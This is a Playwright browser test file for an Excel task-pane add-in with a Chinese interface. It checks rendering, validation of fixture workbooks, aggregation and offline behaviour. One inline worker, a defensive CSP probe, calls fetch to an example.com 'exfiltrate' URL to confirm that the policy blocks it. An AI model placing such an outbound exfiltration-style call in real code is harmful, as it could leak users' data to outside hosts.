/**
 * The built task pane in a real browser (Debian's chromium through playwright-core), outside Office: it must
 * render, say Excel is not connected, validate the shared fixture workbooks uploaded through the real file input
 * (in the real Web Worker), and aggregate them with the cross-region finding, without any network.
 */
import { copyFileSync, existsSync, mkdirSync, readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { chromium, type Browser, type Page } from 'playwright-core';
import { ensureBuilt } from './build';
import { serveDirectory, type Served } from './serve';
import { FIXTURES } from '../shared-fixtures';

const ROOT = join(__dirname, '..', '..');
const CHROMIUM = process.env.CHROMIUM_PATH ?? '/usr/bin/chromium';
const OUTPUT = join(ROOT, 'test', 'output');

interface ExpectedIssue {
  readonly kind: string;
  readonly cell: string;
}
interface Fixture {
  readonly path: string;
  readonly file: string;
  readonly issues: readonly ExpectedIssue[];
}

const fixtures: Fixture[] = readdirSync(FIXTURES, { withFileTypes: true })
  .filter((d) => d.isDirectory())
  .map((d) => {
    const expected = JSON.parse(readFileSync(join(FIXTURES, d.name, 'expected.json'), 'utf8')) as { file: string; issues: ExpectedIssue[] };
    return { path: join(FIXTURES, d.name, expected.file), file: expected.file, issues: expected.issues };
  });

/**
 * The README's screenshots are committed under assets/; refreshing them is a deliberate step
 * (UPDATE_SCREENSHOTS=1 npx jest test/browser) so an ordinary test run leaves the tree clean.
 */
function publishScreenshot(from: string, to: string): void {
  if (process.env.UPDATE_SCREENSHOTS === '1') copyFileSync(join(OUTPUT, from), join(ROOT, 'assets', to));
}

// eslint-disable-next-line @typescript-eslint/no-require-imports -- the webpack config is plain CommonJS
const { CSP, SERVER_HEADERS } = require('../../webpack.config.js') as { CSP: string; SERVER_HEADERS: Record<string, string> };

/** A worker that tries the network and reports what the policy said (a violation event fires only under a CSP). */
const CSP_PROBE = `
self.addEventListener('securitypolicyviolation', (e) => self.postMessage('violation:' + e.effectiveDirective));
fetch('https://example.com/exfiltrate').then(() => self.postMessage('fetched'), () => setTimeout(() => self.postMessage('failed'), 200));
`;

let browser: Browser;
let served: Served;
let page: Page;
/** Requests to anywhere but the local server: blocked, and recorded to show none was needed. */
const outside: string[] = [];

beforeAll(async () => {
  served = await serveDirectory(ensureBuilt(ROOT), SERVER_HEADERS, { '/csp-probe-worker.js': CSP_PROBE });
  browser = await chromium.launch({ executablePath: CHROMIUM, args: ['--no-sandbox'] });
  const context = await browser.newContext({ acceptDownloads: true, viewport: { width: 420, height: 1100 }, locale: 'zh-CN' });
  await context.route('**/*', (route) => {
    const url = route.request().url();
    if (url.startsWith(served.origin + '/') || url.startsWith('blob:') || url.startsWith('data:')) return route.continue();
    outside.push(url);
    return route.abort();
  });
  page = await context.newPage();
  page.setDefaultTimeout(60_000);
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await served?.close();
});

test('the fixtures are there', () => {
  expect(fixtures.length).toBe(4);
  expect(fixtures.every((f) => existsSync(f.path))).toBe(true);
});

test('renders outside Office and says Excel is not connected', async () => {
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await page.goto(`${served.origin}/taskpane.html?tab=validate`);
  await page.getByRole('heading', { name: '试点表格助手' }).waitFor();
  await expect(page.getByTestId('not-connected').textContent()).resolves.toContain('未连接 Excel');
  for (const name of ['填报', '校验', '汇总', '导出']) await expect(page.getByRole('tab', { name }).isVisible()).resolves.toBe(true);
  await expect(page.getByRole('tab', { name: '校验' }).getAttribute('aria-selected')).resolves.toBe('true');
  expect(errors).toEqual([]);
});

test('validates the fixture workbooks uploaded through the file input', async () => {
  await page.getByLabel('选择 .xlsx 文件').setInputFiles(fixtures.map((f) => f.path));
  await page.getByTestId('file-result').nth(fixtures.length - 1).waitFor();
  expect(await page.getByTestId('file-result').count()).toBe(fixtures.length);
  for (const f of fixtures) {
    const section = page.getByRole('region', { name: f.file });
    for (const issue of f.issues) {
      const item = section.locator(`li[data-code="${issue.kind}"][data-cell="${issue.cell}"]`);
      await expect(item.count()).resolves.toBeGreaterThan(0);
    }
  }
  // The two the issue names, spelled out.
  const gd = page.getByRole('region', { name: /广东省/ });
  await expect(gd.locator('li[data-code="contact.email-invalid"][data-cell="E11"]').textContent()).resolves.toContain('E11');
  const bj = page.getByRole('region', { name: /北京市/ });
  await expect(bj.locator('li[data-code="category.not-in-vocabulary"][data-cell="C6"]').textContent()).resolves.toContain('保险中介机构');
  mkdirSync(OUTPUT, { recursive: true });
  await page.screenshot({ path: join(OUTPUT, 'taskpane-validate.png'), fullPage: false });
  publishScreenshot('taskpane-validate.png', 'screenshot-validate.png');
});

test('aggregates the files: 汇总.xlsx downloaded, reconciliation and the cross-region warning shown', async () => {
  await page.getByRole('tab', { name: '汇总' }).click();
  const download = page.waitForEvent('download');
  // The 校验 panel stays mounted (hidden) once opened: the visible panel's picker is the one.
  await page.getByRole('tabpanel').getByLabel('选择 .xlsx 文件').setInputFiles(fixtures.map((f) => f.path));
  const file = await download;
  expect(file.suggestedFilename()).toBe('汇总.xlsx');
  const bytes = readFileSync((await file.path())!);
  expect(bytes.subarray(0, 2).toString('latin1')).toBe('PK');
  const summary = page.getByTestId('summary');
  await summary.waitFor();
  await expect(page.getByTestId('reconciliation').textContent()).resolves.toContain('一致');
  const cross = summary.locator('li[data-code="cross.enterprise-in-multiple-regions"]', { hasText: '星汉智能装备股份有限公司' });
  await expect(cross.count()).resolves.toBe(1);
  await expect(cross.textContent()).resolves.toMatch(/江苏.*广东|广东.*江苏/);
  mkdirSync(OUTPUT, { recursive: true });
  await page.screenshot({ path: join(OUTPUT, 'taskpane.png'), fullPage: true });
  publishScreenshot('taskpane.png', 'screenshot-taskpane.png');
});

test('the worker that parses the files is bound by the same CSP as the page (sent as a header, not only <meta>)', async () => {
  await page.goto(`${served.origin}/taskpane.html?tab=validate`);
  expect(await page.evaluate(() => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute('content'))).toBe(CSP);
  // A worker loaded from a URL takes its policy from that response's headers: the probe, served like every file,
  // is refused the network by connect-src.
  const said = await page.evaluate(
    () =>
      new Promise<string[]>((resolve) => {
        const out: string[] = [];
        const w = new Worker('/csp-probe-worker.js');
        w.onmessage = (e) => {
          out.push(String(e.data));
          if (e.data === 'failed' || e.data === 'fetched') resolve(out);
        };
      }),
  );
  expect(said).toEqual(['violation:connect-src', 'failed']);
});

test('needed nothing from the network: only office.js (the CDN) was asked for, and the page worked without it', () => {
  expect(outside).toContain('https://appsforoffice.microsoft.com/lib/1/hosted/office.js');
  expect(outside.filter((u) => !u.startsWith('https://appsforoffice.microsoft.com/'))).toEqual([]);
  expect(served.requests).toEqual(expect.arrayContaining(['/taskpane.html', '/taskpane.js', '/react.js']));
});
